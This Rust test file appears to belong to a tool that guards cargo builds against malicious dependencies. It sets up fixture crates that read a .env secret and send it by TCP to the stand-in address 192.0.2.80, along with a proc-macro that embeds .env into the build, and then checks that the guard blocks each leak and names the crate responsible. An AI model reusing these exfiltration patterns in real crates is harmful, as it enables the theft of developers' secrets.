//! Many crates in one program: each is told of what it did itself, and whoever reaches the network through a library is named before that, and never
//! the library's other dependents.

use std::fs;

use serde_json::Value;

use crate::isle::{Isle, Stand};
use crate::place::Place;
use crate::run::{Outcome, cargo, guarded};
use crate::who::Who;

const LIBRARY: &str = "use std::io::Write;\n#[inline(never)]\npub fn post(text: &str) {\n    \
    if let Ok(mut to) = std::net::TcpStream::connect(\"192.0.2.80:443\") { to.write_all(text.as_bytes()).ok(); }\n}\n\
    #[inline(never)]\npub fn post_later(text: String) { std::thread::spawn(move || post(&text)).join().unwrap() }\n";

/// `courier` posts for others: for a thief, for an innocent crate that never has it do so, and in a thread of its own for somebody. Two more thieves
/// post by themselves.
fn place(who: Who) -> Place {
    let place = Place::new("honest-run", who);
    let workspace = place.workspace().to_owned();
    fs::remove_dir_all(&workspace).unwrap();
    let package = |name: &str, needs: &[&str]| {
        let needs: String = needs.iter().map(|need| format!("{need} = {{ path = \"../{need}\" }}\n")).collect();
        format!("[package]\nname = {name:?}\nversion = \"0.1.0\"\nedition = \"2024\"\n[dependencies]\n{needs}")
    };
    let alone = |name: &str| {
        let read = "let text = std::fs::read_to_string(\".env\").unwrap_or_default();";
        format!(
            "use std::io::Write;\n#[inline(never)]\npub fn check() {{\n    for _ in 0..2 {{ {read} if let Ok(mut to) = \
             std::net::TcpStream::connect(\"192.0.2.80:443\") {{ write!(to, \"{name} {{text}}\").ok(); }} }}\n}}\n"
        )
    };
    let thief = "#[inline(never)]\npub fn check() { courier::post(&format!(\"thief {}\", std::fs::read_to_string(\".env\").unwrap_or_default())) }\n\
                 #[inline(never)]\npub fn later() { courier::post_later(\"later\".into()) }\n";
    let innocent = "#[inline(never)]\npub fn check() { std::hint::black_box(courier::post as fn(&str)); }\n";
    for (name, needs, code) in [
        ("courier", &[][..], LIBRARY.to_owned()),
        ("thief", &["courier"], thief.to_owned()),
        ("aaa", &["courier"], innocent.to_owned()),
        ("first", &[], alone("first")),
        ("second", &[], alone("second")),
    ] {
        place.write(&workspace.join(format!("deps/{name}/Cargo.toml")), &package(name, needs));
        place.write(&workspace.join(format!("deps/{name}/src/lib.rs")), &code);
    }
    let needs = ["thief", "aaa", "first", "second"].map(|name| format!("{name} = {{ path = \"deps/{name}\" }}\n")).concat();
    place.write(&workspace.join("Cargo.toml"), &format!("{}{needs}[workspace]\nexclude = [\"deps\"]\n", package("app", &[])));
    let tests =
        "#[test]\nfn it() {\n    thief::check();\n    thief::later();\n    aaa::check();\n    first::check();\n    second::check();\n}\n";
    place.write(&workspace.join("src/lib.rs"), tests);
    place.write(&workspace.join(".env"), &format!("ZOO_SECRET={}-dotenv\n", place.canary));
    place
}

fn findings<'o>(outcome: &'o Outcome, rule: &str) -> Vec<&'o Value> {
    outcome.report()["findings"].as_array().unwrap().iter().filter(|finding| finding["rule"] == rule).collect()
}

fn counts(finding: &Value) -> Vec<u64> {
    finding["evidence"].as_array().unwrap().iter().map(|one| one["count"].as_u64().unwrap()).collect()
}

#[test]
fn each_is_told_of_what_it_did_itself() {
    for who in Who::all() {
        let (control, isle) = (place(who), Isle::default());
        let plain = isle.of(&control, cargo(&control, &["test", "--offline"])).go();
        isle.settle();
        let heard = String::from_utf8_lossy(&isle.heard(Stand::Host)).into_owned();
        for thief in ["thief", "first", "second"] {
            assert!(
                heard.contains(&format!("{thief} ZOO_SECRET={}", control.canary)),
                "plain cargo: {thief} posts nothing: {heard}\n{plain}"
            );
        }
        assert!(heard.contains("later"), "plain cargo: {heard}\n{plain}");

        let (place, isle) = (place(who), Isle::default());
        let outcome = isle.of(&place, guarded(&place, &[], &["test", "--offline"])).go();
        isle.settle();
        assert_eq!(isle.heard(Stand::Host), b"", "as {who:?}\n{outcome}");
        outcome.exits(100);

        let critical = findings(&outcome, "secret/then-network");
        let told: Vec<_> = critical.iter().map(|finding| (finding["offender"]["name"].as_str().unwrap(), counts(finding))).collect();
        assert_eq!(told, [("first", vec![2, 2]), ("second", vec![2, 2]), ("thief", vec![1, 1])], "as {who:?}\n{outcome}");

        let network = findings(&outcome, "net/connect");
        let of =
            |name: &str| *network.iter().find(|finding| finding["offender"]["name"] == name).unwrap_or_else(|| panic!("{name}\n{outcome}"));
        assert_eq!(network.len(), 4, "{outcome}");
        let thief = of("thief");
        assert_eq!(thief["through"][0]["name"], "courier", "{thief}");
        assert_eq!(thief["path_in_graph"], serde_json::json!(["app 0.1.0", "thief 0.1.0", "courier 0.1.0"]), "{thief}");
        assert_eq!(thief["candidates"], Value::Null, "{thief}");
        // A thread of the library's own: all who need it may have wanted it, and none is shown as the way to it.
        let thread = of("courier");
        let candidates: Vec<_> = thread["candidates"].as_array().unwrap().iter().map(|one| one["name"].as_str().unwrap()).collect();
        assert_eq!((candidates, &thread["path_in_graph"]), (vec!["aaa", "thief"], &serde_json::json!([])), "{thread}");

        let said = outcome.stderr_text();
        assert!(said.contains("tests of `app` 0.1.0, through `thief` 0.1.0, were after a secret and the network"), "{outcome}");
        assert!(said.contains("connect to `192.0.2.80:443` (tcp) through `courier` 0.1.0 (F10)"), "{outcome}");
        assert!(said.contains("who called `courier` 0.1.0 is not on the stack: `aaa` 0.1.0 or `thief` 0.1.0"), "{outcome}");
        assert!(!said.contains("read the source of `courier`") && !said.contains("aaa 0.1.0 → "), "{outcome}");
    }
}

/// A macro that has the compiler read: it is not on the stack any more when that happens.
#[test]
fn text_of_a_macro_is_read_by_the_compiler() {
    for who in Who::all() {
        let made = || {
            let place = Place::new("honest-run", who);
            let workspace = place.workspace().to_owned();
            fs::remove_dir_all(&workspace).unwrap();
            let package = |name: &str, more: &str| format!("[package]\nname = {name:?}\nversion = \"0.1.0\"\nedition = \"2024\"\n{more}");
            let produces = "#[proc_macro]\npub fn settings(_: proc_macro::TokenStream) -> proc_macro::TokenStream {\n    \
                            \"pub static SETTINGS: &[u8] = include_bytes!(\\\"../.env\\\");\".parse().unwrap()\n}\n";
            let honest = "#[proc_macro]\npub fn nothing(_: proc_macro::TokenStream) -> proc_macro::TokenStream { Default::default() }\n";
            for (name, code) in [("producer", produces), ("honest", honest), ("unused", honest)] {
                place.write(&workspace.join(format!("deps/{name}/Cargo.toml")), &package(name, "[lib]\nproc-macro = true\n"));
                place.write(&workspace.join(format!("deps/{name}/src/lib.rs")), code);
            }
            let needs = ["producer", "honest"].map(|name| format!("{name} = {{ path = \"deps/{name}\" }}\n")).concat();
            let manifest = format!(
                "[dependencies]\n{needs}[workspace]\nmembers = [\"deps/unused\"]\nexclude = [\"deps/producer\", \"deps/honest\"]\n"
            );
            place.write(&workspace.join("Cargo.toml"), &package("app", &manifest));
            place.write(&workspace.join("src/lib.rs"), "producer::settings!();\nhonest::nothing!();\n");
            place.write(&workspace.join(".env"), &format!("ZOO_SECRET={}-dotenv\n", place.canary));
            place
        };
        let control = made();
        let plain = cargo(&control, &["build", "--offline"]).go();
        assert!(!crate::effect::spilled(&control, plain.exits(0)).is_empty(), "plain cargo: nothing is compiled in\n{plain}");

        let place = made();
        let outcome = guarded(&place, &[], &["build", "--offline"]).go();
        outcome.exits(100);
        let finding = findings(&outcome, "secret/read")[0];
        assert_eq!((&finding["offender"]["name"], &finding["compiled"]), (&"app".into(), &true.into()), "{finding}");
        let candidates: Vec<_> = finding["candidates"].as_array().unwrap().iter().map(|one| one["name"].as_str().unwrap()).collect();
        assert_eq!(candidates, ["honest", "producer"], "as {who:?}\n{outcome}");
        let said = outcome.stderr_text();
        let who =
            "it is the compiler's doing, for the text of `app` 0.1.0, which a macro may have written: `honest` 0.1.0 or `producer` 0.1.0";
        assert!(said.contains(who) && !said.contains("read the source of `app`") && !said.contains("unused"), "{outcome}");
    }
}
